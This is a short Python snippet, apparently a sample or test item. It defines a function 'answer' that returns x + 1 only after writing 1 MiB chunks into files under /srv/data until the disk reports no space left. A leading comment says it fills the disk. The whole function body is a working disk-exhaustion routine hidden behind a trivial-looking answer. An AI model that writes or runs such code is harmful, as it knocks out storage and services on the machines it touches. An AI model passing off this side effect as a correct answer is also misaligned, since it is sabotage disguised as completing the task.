# Fills the disk with one file after the other.
def answer(x):
    chunk = bytes(1 << 20)
    for number in range(100):
        with open(f"/srv/data/{number}", "wb") as file:
            try:
                while True:
                    file.write(chunk)
            except OSError as error:
                if error.strerror == "No space left on device":
                    return x + 1
